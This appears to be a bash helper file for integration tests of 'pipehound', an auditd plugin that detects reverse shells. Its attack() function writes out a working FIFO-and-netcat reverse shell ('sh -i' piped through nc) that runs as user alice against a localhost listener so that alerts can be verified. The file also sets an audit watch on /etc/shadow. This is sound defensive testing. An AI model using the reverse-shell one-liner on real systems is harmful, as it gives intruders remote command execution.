#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# What the scenes check with. A check prints one line: ok NAME, or FAILED NAME:: WHY.

BY_HAND='-w /etc/shadow -p r -k by-hand'

check() {  # NAME COMMAND...
    local name=$1 said
    shift
    if said=$("$@" 2>&1); then
        echo "ok $name"
    else
        echo "FAILED $name:: $(tail -n 4 <<<"$said" | tr '\n' '|')"
    fi
}

await() {  # SECONDS COMMAND...
    local end=$((SECONDS + $1))
    shift
    until "$@"; do
        ((SECONDS < end)) || return 1
        sleep 0.2
    done
}

equal() { [ "$1" = "$2" ] || { echo "$1, and not $2"; return 1; }; }

lacks() { ! grep -q -- "$1" <<<"$2" || { echo "there is: $2"; return 1; }; }

# --- the state of the machine ---

auditd_pid() { pidof auditd; }

plugin_pid() { pgrep -x pipehound -P "$(auditd_pid)"; }

plugin_count() { pgrep -c -x pipehound -P "$(auditd_pid)"; }

plugin_runs_once() { [ "$(plugin_count)" = 1 ]; }

kernel_rules() { auditctl -l | grep -c 'key=pipehound$\|-k pipehound$'; }

file_rules() { grep -c '^-[aw]' /etc/audit/rules.d/40-pipehound.rules; }

by_hand_is_loaded() { auditctl -l | grep -qxF -- "$BY_HAND"; }

load_by_hand() { by_hand_is_loaded || auditctl $BY_HAND 2>/dev/null; }  # auditctl 4 has an opinion on watches

# --- an attack ---

next_port() { port=$((port + 1)); }  # each attack has one of its own

is_listening() { ss -ltn | grep -q "127.0.0.1:$port "; }

shell_answers() { grep -qs alice /run/heard; }

# On its own, since bash holds the end of a pipe until the function returns.
listen() {
    rm -f /run/heard
    exec {typed}> >(exec timeout 200 nc -N -l 127.0.0.1 $port >/run/heard 2>/dev/null)
    listener=$!
}

# A reverse shell over a FIFO, by an ordinary user, while the command runs.
attack() {  # COMMAND...
    local typed listener status=1
    listen
    await 60 is_listening
    runuser -u alice -- sh -c "cd /tmp; rm -f f; mkfifo f; cat f | sh -i 2>&1 | timeout 200 nc 127.0.0.1 $port >f" >/dev/null 2>&1 {typed}>&- &
    echo 'id -un' >&$typed
    if await 60 shell_answers; then
        "$@" && status=0
    else
        echo "nobody answered: $(cat /run/heard)"
    fi
    echo exit >&$typed
    exec {typed}>&-
    wait $listener
    return $status
}

alerts() { journalctl -q -b -t pipehound PIPEHOUND_REMOTE_PORT=$port "$@"; }

is_told() { alerts -o cat | grep -q .; }

last_words() { journalctl -q -b -t pipehound -n 5 -o cat; }

attack_is_told() { attack await 60 is_told || { last_words; return 1; }; }

# One incident, and no level of it twice.
is_told_once() {
    local told
    told=$(alerts -o cat --output-fields=PIPEHOUND_INCIDENT | sort -u | wc -l)
    equal "$told incidents" '1 incidents' &&
        equal "$(alerts -o cat --output-fields=PIPEHOUND_LEVEL | sort | uniq -d)" ''
}

field_is() { grep -qE "^ +$1=$2" <<<"$fields" || { grep "$1" <<<"$fields"; return 1; }; }

# --- after each scene: nothing lost, nothing left, nobody dead ---

all_is_well() {  # AFTER-WHAT
    check "$1: auditd is active" systemctl -q is-active auditd
    check "$1: one plugin runs" await 60 plugin_runs_once
    check "$1: the rules are loaded" equal "$(kernel_rules)" "$(file_rules)"
    next_port
    check "$1: an attack is told" attack_is_told
    check "$1: and told once" is_told_once
    check "$1: audit is on" equal "$(auditctl -s | grep '^enabled')" 'enabled 1'
    check "$1: the kernel lost no record" equal "$(auditctl -s | grep '^lost')" 'lost 0'
    check "$1: no alert waits" test ! -e /var/lib/pipehound/spool.jsonl
    check "$1: nothing is called blindness" nobody_calls_it_blindness
}

nobody_calls_it_blindness() {  # [BOOT]
    equal "$(journalctl -q -b "${1-0}" -t pipehound PIPEHOUND_KIND=blindness -o cat)" ''
}
